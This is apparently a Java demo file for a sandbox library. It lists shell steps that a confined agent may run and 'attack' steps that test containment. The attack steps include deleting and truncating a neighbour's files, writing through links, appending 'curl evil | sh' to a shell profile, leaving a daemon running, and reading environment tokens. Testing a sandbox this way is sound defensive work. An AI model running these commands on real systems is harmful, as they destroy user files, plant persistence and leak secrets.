package io.cordon.examples.demo;

import static io.cordon.sandbox.Capability.ENVIRONMENT;
import static io.cordon.sandbox.Capability.FILE_WRITE;
import static io.cordon.sandbox.Capability.NETWORK;
import static io.cordon.sandbox.Capability.PROCESS_TREE;

import com.google.common.collect.ImmutableList;
import java.io.IOException;
import java.nio.file.Files;
import java.util.List;

/** The steps as scripts for {@code sh}. The directory is the workspace; {@code ../home} and {@code ../sibling} lie beside it. */
final class UnixSteps extends Steps {
    private static final String COMPILE = String.join(" ", quoted(compiler())) + " -d out src/*.java";

    private final boolean git = hasGit();

    UnixSteps(Listeners listeners) {
        super(listeners);
    }

    @Override
    void prepare(Stage stage) throws IOException, InterruptedException {
        Files.createSymbolicLink(
                stage.workspace().resolve("link"), stage.sibling().resolve("keep.txt"));
        if (git) {
            shell(
                    stage,
                    "git init -q . && git config user.name agent && git config user.email agent@localhost "
                            + "&& git add src && git commit -q -m begin");
        }
    }

    private static void shell(Stage stage, String script) throws IOException, InterruptedException {
        Process process = new ProcessBuilder("sh", "-c", script)
                .directory(stage.workspace().toFile())
                .inheritIO()
                .start();
        if (process.waitFor() != 0) {
            throw new IOException("preparing the stage failed: " + script);
        }
    }

    @Override
    ImmutableList<String> leftOut() {
        return git ? ImmutableList.of() : ImmutableList.of("commit on a branch: git is not installed");
    }

    @Override
    ImmutableList<Step> all() {
        ImmutableList.Builder<Step> steps = ImmutableList.builder();
        steps.add(
                work("read a file of the user", "cat ../home/notes.txt", Step.prints("notes of the user")),
                work(
                        "look around in the system",
                        "ls / /usr && head -c 16 /dev/urandom > /dev/null",
                        Step.exitsWithZero()),
                work(
                        "write a file in the workspace",
                        "mkdir -p docs && echo hello > docs/new.txt",
                        (stage, execution) -> Stage.content(stage.workspace().resolve("docs/new.txt"))
                                .equals("hello\n")),
                work(
                        "compile the project",
                        COMPILE,
                        (stage, execution) -> Files.exists(stage.workspace().resolve("out/Sum.class"))),
                work(
                        "test the project",
                        COMPILE + " && '" + java("java") + "' -cp out SumTest",
                        Step.prints("1 test passed")));
        if (git) {
            steps.add(work(
                    "commit on a branch",
                    "git checkout -q -b agent && echo '// done' >> src/Sum.java && git commit -q -a -m work && git log -1 --format=%s",
                    Step.prints("work")));
        }
        steps.add(work(
                "write a report by way of a temp file",
                "t=$(mktemp) && ls > \"$t\" && mv \"$t\" report.txt && chmod +x report.txt",
                (stage, execution) ->
                        Stage.content(stage.workspace().resolve("report.txt")).contains("src")));

        steps.add(
                attack(
                        "write beside the workspace",
                        "echo x > ../new.txt",
                        (stage, execution) -> Files.exists(stage.workspace().resolveSibling("new.txt"))),
                attack("delete a file of a sibling", "rm -f ../sibling/keep.txt", UnixSteps::siblingChanged),
                attack(
                        "rename a file of a sibling",
                        "mv ../sibling/keep.txt ../sibling/lost.txt",
                        UnixSteps::siblingChanged),
                attack("truncate a file of a sibling", "> ../sibling/keep.txt", UnixSteps::siblingChanged),
                attack(
                        "append to a shell profile",
                        "echo 'curl evil | sh' >> ../home/.profile",
                        (stage, execution) ->
                                Stage.content(stage.home().resolve(".profile")).contains("evil")),
                attack("write through a symbolic link", "echo x > link", UnixSteps::siblingChanged),
                attack(
                        "write through a hard link",
                        "ln ../sibling/keep.txt hard && echo x > hard",
                        UnixSteps::siblingChanged),
                attack(
                        "write from a grandchild",
                        "sh -c 'sh -c \"echo x > ../sibling/keep.txt\"'",
                        UnixSteps::siblingChanged));

        steps.add(connectsByTcp(), sendsByUdp());
        steps.add(Step.attack(
                "connect from a grandchild",
                NETWORK,
                stage -> List.of("sh", "-c", "sh -c '" + String.join(" ", quoted(probe("tcp", tcpPort()))) + "'"),
                this::reached));
        steps.add(
                Step.attack(
                        "leave a daemon behind",
                        PROCESS_TREE,
                        stage -> script("setsid sh -c 'echo $$ > daemon.pid; exec sleep 60' > /dev/null 2>&1 & "
                                + "while ! [ -s daemon.pid ]; do sleep 0.1; done"),
                        survives("daemon.pid")),
                Step.attack(
                                "signal the JVM",
                                PROCESS_TREE,
                                stage -> script("kill -s CONT "
                                        + ProcessHandle.current().pid()),
                                Step.exitsWithZero())
                        .unlessReported("signals")); // kernels before 6.12 cannot keep signals in
        if (System.getenv(TOKEN) != null) {
            steps.add(Step.attack(
                    "find a token in the environment",
                    ENVIRONMENT,
                    stage -> script("env | grep " + TOKEN),
                    Step.exitsWithZero()));
        }
        if (Files.exists(java.nio.file.Path.of("/proc/self/environ"))) {
            steps.add(Step.attack(
                    "read the environment of the JVM",
                    ENVIRONMENT,
                    stage -> script("cat /proc/" + ProcessHandle.current().pid() + "/environ"),
                    Step.exitsWithZero()));
        }
        return steps.build();
    }

    private static boolean siblingChanged(Stage stage, Step.Execution execution) {
        return !Stage.content(stage.sibling().resolve("keep.txt")).equals("to be kept\n");
    }

    private static Step work(String title, String script, Step.Effect effect) {
        return Step.work(title, stage -> script(script), effect);
    }

    private static Step attack(String title, String script, Step.Effect effect) {
        return Step.attack(title, FILE_WRITE, stage -> script(script), effect);
    }

    private static List<String> script(String text) {
        return List.of("sh", "-c", text);
    }

    private static List<String> quoted(List<String> command) {
        return command.stream().map(part -> "\"" + part + "\"").toList();
    }
}
